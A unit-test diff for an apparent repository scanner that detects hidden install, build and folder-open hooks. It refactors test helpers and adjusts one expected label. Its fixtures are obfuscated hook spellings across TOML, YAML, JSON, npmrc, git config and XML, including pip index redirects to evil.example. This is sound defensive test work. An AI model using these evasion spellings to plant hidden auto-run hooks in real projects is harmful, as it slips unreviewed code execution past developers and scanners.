@@ -10,23 +10,10 @@ namespace {
 using testing::HasSubstr;
 using testing::Not;
 
-struct Spelling {
-  const char *path, *text, *label;
-};
-
-void ExpectEach(std::initializer_list<Spelling> spellings, const char* verdict) {
-  for (const auto& one : spellings) {
-    const Report report = TriageOf({{one.path, one.text}, {".git/HEAD", "ref: refs/heads/main\n"}});
-    EXPECT_THAT(report.data.dump(), HasSubstr(std::string("\"") + one.label + "\"")) << one.path << "\n" << one.text << Titles(report);
-    EXPECT_EQ(VerdictOf(report), verdict) << one.path << "\n" << one.text << Titles(report);
-    EXPECT_TRUE(report.complete) << one.text << report.summary;
-  }
-}
-
-void ExpectHostile(std::initializer_list<Spelling> spellings) { ExpectEach(spellings, "hostile signs"); }
+constexpr char kOnBuild[] = "runs on install or build";
 
 TEST(PlaybookTriageHidden, KeysOfToml) {
-  ExpectHostile({
+  ExpectFound({
       {".cargo/config.toml", "[build]\n\"rustc\\u002dwrapper\" = \"./x.sh\"\n", "hides-letters"},
       {".cargo/config.toml", "[build]\n\"rustc\\U0000002dwrapper\" = \"./x.sh\"\n", "hides-letters"},
       {".cargo/config.toml", "[build]\n\"rustc\\x2dwrapper\" = \"./x.sh\"\n", "hides-letters"},
@@ -47,7 +34,7 @@ TEST(PlaybookTriageHidden, KeysOfToml) {
 }
 
 TEST(PlaybookTriageHidden, KeysOfYaml) {
-  ExpectHostile({
+  ExpectFound({
       {".yarnrc.yml", "? yarnPath\n: ./x.cjs\n", "hidden-name"},
       {".yarnrc.yml", "?\n  yarnPath\n: ./x.cjs\n", "hidden-name"},
       {".yarnrc.yml", "\"yarn\\x50ath\": ./x.cjs\n", "hides-letters"},
@@ -75,11 +62,11 @@ TEST(PlaybookTriageHidden, KeysOfYaml) {
 }
 
 TEST(PlaybookTriageHidden, KeysOfJson) {
-  ExpectHostile({
+  ExpectFound({
       {"package.json", "{\"scripts\":{\"preinst\\u0061ll\":\"touch x\"}}\n", "npm-script"},
       {"package.json", "{\n  \"scripts\": {\n    \"preinst\\u0061ll\"\n:\n\"touch x\"\n  }\n}\n", "npm-script"},
       {".vscode/settings.json", "{\"task\\u002eallowAutomaticTasks\": \"on\"}\n", "vscode-trust"},
-      {".vscode/settings.json", "{\"git\\u002Epath\": \"./x\"}\n", "hides-letters"},
+      {".vscode/settings.json", "{\"git\\u002Epath\": \"./x\"}\n", "vscode-trust"},
       {".vscode/tasks.json", "{\"tasks\":[{\"run\\u004fn\":\"folderOpen\"}]}\n", "vscode-folder-open"},
       {".mcp.json", "{\"mcpServers\":{\"x\":{\"c\\u006fmmand\":\"sh\"}}}\n", "agent-command"},
       {".devcontainer/devcontainer.json", "{\"initi\\u0061lizeCommand\":\"touch x\"}\n", "devcontainer-host"},
@@ -89,10 +76,11 @@ TEST(PlaybookTriageHidden, KeysOfJson) {
       {"binding.gyp", "{'targets': [{'target_name': 'x', 'actions': [{'act' 'ion': ['sh', 'x']}]}]}\n", "hidden-name"},
       {"binding.gyp", "{'targets': [{'actions': [{\n'act\\x69on': ['sh', 'x']}]}]}\n", "hidden-name"},
   });
+  EXPECT_THAT(TriageOf({{".vscode/settings.json", "{\"git\\u002Epath\": \"./x\"}\n"}}).data.dump(), HasSubstr("\"hides-letters\""));
 }
 
 TEST(PlaybookTriageHidden, KeysOfIniAndProperties) {
-  ExpectHostile({
+  ExpectFound({
       {".npmrc", "\"script-shell\" = ./x.sh\n", "npmrc-runs"},
       {".npmrc", "\"script\\u002dshell\" = ./x.sh\n", "hidden-name"},
       {".npmrc", "script-sh${NONE?}ell = ./x.sh\n", "hidden-name"},
@@ -109,23 +97,23 @@ TEST(PlaybookTriageHidden, KeysOfIniAndProperties) {
       {".git/config", "\xEF\xBB\xBF[core] fsmonitor = touch x\n", "git-fsmonitor"},
       {".git/config", "[CORE]\n\tFsMonitor = tou\\\nch x\n", "git-fsmonitor"},
   });
-  ExpectEach({{".bazelrc", "build --workspace_sta\"tus_command\"=x\n", "hidden-name"}}, "hostile signs");
-  ExpectEach({{"requirements.txt", "--ind http://evil.example/x\n", "pip-index"}, {"requirements.txt", "-ihttp://evil.example/x\n", "pip-index"}}, "runs on install or build");
+  ExpectFound({{".bazelrc", "build --workspace_sta\"tus_command\"=x\n", "hidden-name"}});
+  ExpectFound({{"requirements.txt", "--ind http://evil.example/x\n", "pip-index", kOnBuild}, {"requirements.txt", "-ihttp://evil.example/x\n", "pip-index", kOnBuild}});
 }
 
 TEST(PlaybookTriageHidden, NamesOfXml) {
-  ExpectHostile({
+  ExpectFound({
       {"pom.xml", "<project><build><plugins><plugin><artifactId>exec&#45;maven-plugin</artifactId></plugin></plugins></build></project>\n", "hidden-name"},
       {"pom.xml", "<plugin>\n<artifactId>exec&#x2d;maven-plugin</artifactId>\n</plugin>\n", "hidden-name"},
       {"pom.xml", "<plugin>\n<artifactId>exec-<!-- x -->maven-plugin</artifactId>\n</plugin>\n", "hidden-name"},
       {"a.csproj", "<Project><Target Name=\"a\"><Exec Command=\"&#99;url x\"/></Target></Project>\n", "hidden-name"},
       {".idea/workspace.xml", "<component name=\"Project&#83;tartupSharedConfiguration\">\n", "hidden-name"},
   });
-  ExpectEach({{"a.csproj", "<Target Name=\"a\">\n<exec\n command='x'/>\n</Target>\n", "msbuild-runs"}, {"build.xml", "<!DOCTYPE p [<!ENTITY x SYSTEM \"y.xml\">]>\n<project>&x;</project>\n", "xml-entity"}}, "runs on install or build");
+  ExpectFound({{"a.csproj", "<Target Name=\"a\">\n<exec\n command='x'/>\n</Target>\n", "msbuild-runs", kOnBuild}, {"build.xml", "<!DOCTYPE p [<!ENTITY x SYSTEM \"y.xml\">]>\n<project>&x;</project>\n", "xml-entity", kOnBuild}});
 }
 
 TEST(PlaybookTriageHidden, ProgramsInAnotherSpelling) {
-  ExpectHostile({
+  ExpectFound({
       {"setup.py", "# -*- coding: utf-7 -*-\nimport os\n", "hidden-name"},
       {".dir-locals.el", "((nil . ((ev\\al . (shell-command \"x\")))))\n", "hidden-name"},
       {".exrc", "exe 'sil' . 'ent' . '!touch x'\n", "vimrc"},
